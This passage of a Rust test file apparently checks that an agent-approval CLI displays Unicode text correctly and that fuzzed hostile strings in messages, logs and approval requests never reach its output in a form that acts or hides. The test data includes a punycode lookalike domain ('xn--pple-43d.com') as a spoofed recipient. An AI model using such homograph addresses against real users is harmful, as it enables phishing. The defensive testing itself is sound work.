    assert!(passed < OPENINGS.len() * RUNS_OF_CODE.len() / 5, "{passed} were let through");
}

#[test]
fn what_people_write_from_right_to_left_or_in_emoji_is_still_read() {
    for text in
        ["שלום עולם", "שָׁלוֹם", "مرحبا بالعالم", "❤\u{fe0f} 👍🏽 🇩🇪", "日本語のテキスト", "Zoë, 5 € – “ok”"]
    {
        let drawn =
            draw::approval(&output::Approval::of(&asked(text, BodyKind::Text, text.into())), look(80));
        assert_eq!(drawn.matches(text).count(), 5, "subject, twice, body, title and description: {drawn}");
    }
}

// ---- Through the real binary ---------------------------------------------------------------------------------------------

#[test]
fn the_program_itself_prints_nothing_that_acts_or_hides() {
    let cli = Cli::new();
    let agent = cli.install("guest-script", "messages.send");
    let mut random = Random::new();
    let clean = |ended: &Ended| {
        for text in [&ended.stdout, &ended.stderr] {
            assert_eq!(unseen(text), None, "{text:?}");
        }
    };
    let mut drawn = 0;
    for run in 0..RUNS {
        let texts: Vec<_> = (0..STRINGS_PER_RUN)
            .map(|at| {
                let text = "x".to_owned() + &hostile(&mut random, run * STRINGS_PER_RUN + at);
                text[..text.floor_char_boundary(1_000)].to_owned()
            })
            .collect();
        let subject: String = texts[2].chars().filter(|c| !c.is_control()).collect();
        let mail = json!({ "to": ["x@xn--pple-43d.com"], "subject": subject, "body": format!("{run} {}", texts[3]) });
        let details = json!({ "preview": texts[4], texts[5].clone(): texts[0] });
        let ask = json!({ "action": "send_message", "title": texts[0], "description": texts[1], "details": details });
        let steps = json!([
            { "call": "log", "with": { "text": texts[4] } },
            { "call": "approval.request", "with": ask },
            { "call": "messages.send", "with": mail },
            { "call": "fail", "with": { "code": texts[2], "message": texts[5], "details": { "why": texts[1] } } },
        ]);
        let waiting = cli.run(&["run", &agent, "script", "--params", &json!({ "steps": steps }).to_string()]);
        assert_eq!(waiting.code, 3, "{waiting:#?}");
        clean(&waiting);
        drawn += usize::from(waiting.stdout.contains("\nThe message that would leave:\n"));
        let pending = cli.run(&["--json", "approval", "list", "--pending"]);
        clean(&pending);
        let approval = &pending.json()["approvals"][0];
        let (id, intent) = (approval["id"].as_str().unwrap(), approval["intent"].as_str().unwrap());
        clean(&cli.run(&["approval", "show", id]));
        clean(&cli.run(&["approval", "decline", id]));
        clean(&cli.run(&["intent", "show", intent]));
        let shown = cli.run(&["--json", "intent", "show", intent]);
        clean(&shown);
        assert!(shown.json()["log"].as_str().unwrap().starts_with(&texts[4]), "{shown:#?}");
    }
    assert!(drawn > RUNS / 2, "only {drawn} messages were drawn");
}
